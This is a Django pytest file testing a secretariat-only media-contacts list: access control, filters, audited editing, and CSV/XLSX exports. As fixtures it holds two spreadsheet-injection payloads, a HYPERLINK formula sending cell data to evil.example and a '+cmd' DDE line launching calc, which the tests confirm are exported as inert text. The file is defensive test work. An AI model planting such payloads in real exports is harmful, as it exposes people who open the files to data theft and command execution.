"""The secretariat's media contacts (/newsletter/press/contacts/): a 404 for everyone else, search and
filters, add / edit / delete through the forms (audited), and the CSV and XLSX exports through
portal.exports, where a hostile name starting with "=" reads back as text."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from newsletter.models import MediaContact
from portal.models import AuditEvent, Region, Theme

pytestmark = pytest.mark.django_db

LIST = "/en/newsletter/press/contacts/"
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
SECRET_NOTE = "Prefers calls after 18:00, home number 555-0199"


def contact(name, **fields):
    beats = fields.pop("beats", ())
    item = MediaContact.objects.create(name=name, **fields)
    item.beats.set(beats)
    return item


@pytest.fixture
def contacts():
    water, agroforestry = Theme.objects.get(code="water"), Theme.objects.get(code="agroforestry")
    europe, africa = Region.objects.get(code="europe"), Region.objects.get(code="sub-saharan-africa")
    return {
        "awa": contact(
            "Awa Diop",
            outlet="Le Soleil",
            email="awa.diop@lesoleil.example",
            languages="fr,sw",
            region=africa,
            beats=[agroforestry],
            notes=SECRET_NOTE,
        ),
        "lucia": contact(
            "Lucía Pérez",
            outlet="El País",
            email="lperez@elpais.example",
            languages="es,en",
            region=europe,
            beats=[water],
        ),
        "hostile": contact(HOSTILE, outlet="+cmd|' /C calc'!A0", languages="en"),
    }


@pytest.mark.parametrize("role", ["partner", "correspondent", "friend", "chair", "reviewer", "funder", "applicant"])
@pytest.mark.parametrize(
    "path",
    [LIST, LIST + "new/", LIST + "export.csv", LIST + "export.xlsx", "{pk}"],
)
def test_everyone_but_the_secretariat_gets_a_404_and_never_the_contacts(client_for, contacts, role, path):
    path = f"{LIST}{contacts['awa'].pk}/" if path == "{pk}" else path
    response = client_for(role).get(path)
    body = response.content.decode(errors="replace")
    assert response.status_code == 404 and "Page not found" in body
    assert "Awa Diop" not in body and SECRET_NOTE not in body


def test_nobody_else_can_change_or_delete_a_contact(client_for, contacts):
    awa = contacts["awa"]
    partner = client_for("partner")
    assert partner.post(f"{LIST}{awa.pk}/", {"delete": ""}).status_code == 404
    assert partner.post(f"{LIST}{awa.pk}/", {"name": "Changed"}).status_code == 404
    assert MediaContact.objects.get(pk=awa.pk).name == "Awa Diop"


def test_anonymous_visitors_are_sent_to_sign_in(client, contacts):
    response = client.get(LIST)
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_the_secretariat_lists_and_searches_the_contacts(client_for, contacts):
    secretariat = client_for("secretariat")
    page = secretariat.get(LIST).content.decode()
    assert "Awa Diop" in page and "Lucía Pérez" in page and "3 contacts" in page
    assert "French, Swahili" in page  # languages by name
    found = secretariat.get(LIST + "?q=calls+after").content.decode()  # the notes are searched too
    assert "Awa Diop" in found and "Lucía Pérez" not in found


@pytest.mark.parametrize(
    "query, names",
    [
        ("language=en", {"Lucía Pérez", "hostile"}),
        ("language=e", set()),  # not a code: refused, the list is not narrowed to "es" or "en"
        ("beat=water", {"Lucía Pérez"}),
        ("region=sub-saharan-africa", {"Awa Diop"}),
        ("q=elpais&language=es", {"Lucía Pérez"}),
    ],
)
def test_the_filters(client_for, contacts, query, names):
    page = client_for("secretariat").get(f"{LIST}?{query}").content.decode()
    shown = {name for name in ("Awa Diop", "Lucía Pérez") if name in page}
    if "=HYPERLINK" in page:
        shown.add("hostile")
    if query == "language=e":
        assert "Select a valid choice." in page
        assert shown == {"Awa Diop", "Lucía Pérez", "hostile"}
    else:
        assert shown == names


def test_the_secretariat_adds_edits_and_deletes_a_contact(client_for, role_users):
    secretariat = client_for("secretariat")
    water = Theme.objects.get(code="water")
    data = {
        "name": "Kiri Waititi",
        "outlet": "Radio New Zealand",
        "email": "kiri@rnz.example",
        "phone": "+64 4 474 1999",
        "languages": ["en", "sw"],
        "beats": [water.pk],
        "region": Region.objects.get(code="oceania").pk,
        "notes": "",
    }
    assert secretariat.post(LIST + "new/", data).status_code == 302
    kiri = MediaContact.objects.get(name="Kiri Waititi")
    assert kiri.languages == "en,sw" and list(kiri.beats.all()) == [water]
    edit = secretariat.get(f"{LIST}{kiri.pk}/").content.decode()
    assert '<option value="sw" selected>' in edit
    secretariat.post(f"{LIST}{kiri.pk}/", {**data, "outlet": "RNZ"})
    assert MediaContact.objects.get(pk=kiri.pk).outlet == "RNZ"

    # The same address again (in capitals) is refused, next to what was typed.
    again = secretariat.post(LIST + "new/", {**data, "name": "Someone else", "email": "KIRI@rnz.example"})
    assert again.status_code == 400
    assert "A media contact with this e-mail address already exists." in again.content.decode()
    assert 'value="Someone else"' in again.content.decode()

    assert secretariat.post(f"{LIST}{kiri.pk}/", {"delete": ""}).status_code == 302
    assert not MediaContact.objects.filter(pk=kiri.pk).exists()
    verbs = list(AuditEvent.objects.filter(object_id=kiri.pk).order_by("pk").values_list("verb", "object_repr"))
    assert [verb for verb, _repr in verbs] == ["media_contact.added", "media_contact.changed", "media_contact.deleted"]
    assert all("Kiri" not in text for _verb, text in verbs)  # erased: the trail keeps no name
    assert all(event.actor == role_users["secretariat"] for event in AuditEvent.objects.filter(object_id=kiri.pk))


def test_the_csv_export_neutralises_formulas_and_follows_the_filters(client_for, contacts):
    response = client_for("secretariat").get(LIST + "export.csv")
    assert response["Content-Disposition"] == 'attachment; filename="media-contacts.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["Name", "Outlet", "E-mail address", "Telephone", "Languages", "Beats", "World region", "Notes"]
    by_name = {row[0]: row for row in rows[1:]}
    assert "'" + HOSTILE in by_name and by_name["'" + HOSTILE][1] == "'+cmd|' /C calc'!A0"
    assert by_name["Awa Diop"][4:7] == ["French, Swahili", "Agroforestry", "Sub-Saharan Africa"]
    only = client_for("secretariat").get(LIST + "export.csv?region=europe").content.decode("utf-8-sig")
    assert "Lucía Pérez" in only and "Awa Diop" not in only


def test_the_xlsx_export_reads_back_a_hostile_name_as_text(client_for, contacts):
    response = client_for("secretariat").get("/fr/newsletter/press/contacts/export.xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]][:3] == ["Nom", "Média", "Adresse e-mail"]
    [hostile] = [row for row in rows[1:] if row[0].value == HOSTILE]
    assert hostile[0].data_type == "s" and hostile[0].quotePrefix  # text, never a formula
    assert hostile[1].value == "+cmd|' /C calc'!A0" and hostile[1].data_type == "s"


def test_the_list_costs_the_same_queries_with_3_or_30_contacts(client_for):
    secretariat = client_for("secretariat")
    water = Theme.objects.get(code="water")
    europe = Region.objects.get(code="europe")

    def count():
        with CaptureQueriesContext(connection) as queries:
            response = secretariat.get(LIST)
        assert response.status_code == 200
        return len(queries)

    for n in range(3):
        contact(f"Journalist {n}", region=europe, beats=[water], languages="en")
    small = count()
    for n in range(3, 30):
        contact(f"Journalist {n}", region=europe, beats=[water], languages="en")
    # The session, the account and its roles and scopes (the navigation), the count, one page of
    # contacts with their regions, their beats, the beat and region filters' options.
    assert count() == small == 13


def test_an_empty_post_is_refused_with_the_missing_name_and_nothing_stored(client_for):
    response = client_for("secretariat").post("/en/newsletter/press/contacts/new/", {})
    assert response.status_code == 400
    assert "This field is required." in response.content.decode()
    assert not MediaContact.objects.exists()
